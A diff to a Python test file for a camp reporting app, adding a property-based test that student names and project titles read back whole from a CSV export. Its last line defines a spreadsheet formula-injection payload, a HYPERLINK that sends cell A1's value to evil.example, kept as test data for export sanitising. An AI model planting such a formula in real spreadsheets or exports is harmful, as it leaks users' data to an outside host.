@@ -22,6 +22,7 @@ from hypothesis import strategies as st
 from camp.models import Role
 from reports.access import overview_students
 from reports.models import Allowance, GitHubEvidence, GitHubPullRequest, Report, Review
+from reports.overview.export import spreadsheet_text
 from reports.overview.grid import build_overview
 from reports.overview.summary import period_summary
 from reports.status import State, is_late, latest_review_verdict, report_state
@@ -635,6 +636,34 @@ def test_cells_agree_with_report_state_on_model_instances(
     finally:
         Report.objects.filter(student=camp.alice).delete()
         Allowance.objects.filter(student=camp.alice).delete()
+
+
+@settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    name=st.text(
+        st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), min_size=1, max_size=40
+    ),
+    title=st.text(
+        st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), min_size=1, max_size=40
+    ),
+)
+def test_csv_reads_back_any_name_and_title_whole(client, camp, name, title):
+    """The student's and project's columns go through csv.writer once and are
+    reused on every line: commas, quotes and line breaks in them still read back
+    as one field each, on every line."""
+    camp.alice.display_name = name
+    camp.alice.save()
+    camp.project_a.title = title
+    camp.project_a.save()
+    client.force_login(camp.ta)
+    rows = read_csv(client.get("/overview/camp.csv"))
+    assert {len(row) for row in rows} == {16}
+    alice = [row for row in rows if row[0] == "alice"]
+    assert len(alice) == 9
+    for row in alice:
+        assert row[1:3] == [spreadsheet_text(name), spreadsheet_text(title)]
 
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
